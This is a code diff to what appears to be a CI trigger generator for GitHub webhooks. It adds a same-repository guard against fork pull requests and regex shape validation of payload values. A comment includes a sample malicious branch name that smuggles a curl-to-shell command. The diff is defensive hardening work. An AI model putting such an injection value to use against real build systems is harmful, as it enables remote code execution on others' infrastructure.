@@ -39,6 +39,7 @@ class ConditionKind(Enum):
     BRANCH = "branch"
     ACTION = "action"
     REPOSITORY = "repository"
+    SAME_REPOSITORY = "same_repository"
 
 
 @dataclass(frozen=True)
@@ -144,7 +145,25 @@ def _clause(pipeline: Pipeline, event: str) -> EventClause:
         conditions.append(Condition(ConditionKind.ACTION, f"{subject} in [{allowed}]", subject, pipeline.actions))
     if pipeline.repositories and event not in EVENTS_WITHOUT_REPOSITORY:
         conditions.append(_repository_condition(pipeline.repositories))
+    if event in PULL_REQUEST_EVENTS and not pipeline.forks:
+        conditions.append(_same_repository_condition())
     return EventClause(event, tuple(conditions))
+
+
+def _same_repository_condition() -> Condition:
+    """A pull request from a fork runs its author's code: only when its head repository IS the base repository.
+
+    Repository ids, not names: a rename or a case difference cannot fool it; a deleted fork (`head.repo: null`) or
+    any missing field counts as a fork.
+    """
+    head = payload_path(("pull_request", "head", "repo", "id"))
+    base = payload_path(("pull_request", "base", "repo", "id"))
+    return Condition(
+        ConditionKind.SAME_REPOSITORY,
+        f"({head} ?? -1) == ({base} ?? -2)",
+        _string_at(("pull_request", "head", "repo", "full_name")),
+        (),
+    )
 
 
 def _repository_condition(repositories: Sequence[str]) -> Condition:
@@ -191,8 +210,31 @@ def _release_ref() -> str:
     return 'payload?.release?.tag_name != nil ? "refs/tags/" + string(payload.release.tag_name) : ""'
 
 
+# The shape each well-known value has when GitHub sends it; anything else (a forged or odd payload) gives "".
+# git_ref also refuses the characters a shell treats specially, though git allows them in branch names
+# (`x$(curl${IFS}evil|sh)` is a valid branch): a template that misuses it then gets "", not the attacker's text.
+WELL_KNOWN_SHAPES = {
+    "git_url": r"^https://[A-Za-z0-9][A-Za-z0-9.-]*(:[0-9]{1,5})?/[A-Za-z0-9][A-Za-z0-9-]*/[A-Za-z0-9._-]+\.git$",
+    "git_ref": r"^refs/(heads|tags|pull)/([A-Za-z0-9_+,=@%-][A-Za-z0-9._+,=@%-]*/)*"
+    r"[A-Za-z0-9_+,=@%-]([A-Za-z0-9._+,=@%-]*[A-Za-z0-9_+,=@%-])?$",
+    "head_commit": r"^[0-9a-f]{40}$",
+    "repository": r"^[A-Za-z0-9][A-Za-z0-9-]*/[A-Za-z0-9._-]+$",
+    "event": r"^[a-z_]{1,64}$",
+    "delivery_id": r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$",
+}
+
+
 def well_known_expression(name: str, events: Sequence[str]) -> str:
-    """The expression that fills a well-known parameter for a pipeline listening to `events`."""
+    """The expression that fills a well-known parameter for a pipeline listening to `events`: "" unless the value
+    has the shape GitHub gives it (WELL_KNOWN_SHAPES)."""
+    value = _well_known_source(name, events)
+    if value == '""':
+        return value
+    # string(): a forged number or object must not fail the match (one failing binding fails every delivery).
+    return f'(string({value}) matches {quote(WELL_KNOWN_SHAPES[name])} ? {value} : "")'
+
+
+def _well_known_source(name: str, events: Sequence[str]) -> str:
     if name == "git_url":
         return _string_at(("repository", "clone_url"))
     if name == "repository":
@@ -265,4 +307,7 @@ def failure_reason(condition: Condition, subject: object, trigger: Trigger) -> s
         return f"branch {branch or '(none)'} does not match {allowed}"
     if condition.kind is ConditionKind.ACTION:
         return f"action {subject or '(none)'} not in {allowed}"
+    if condition.kind is ConditionKind.SAME_REPOSITORY:
+        head = subject or "a deleted or unknown repository"
+        return f"pull request from the fork {head}: forks run their author's code, opt in with forks: true"
     return f"repository {subject or '(none)'} not in {allowed}"
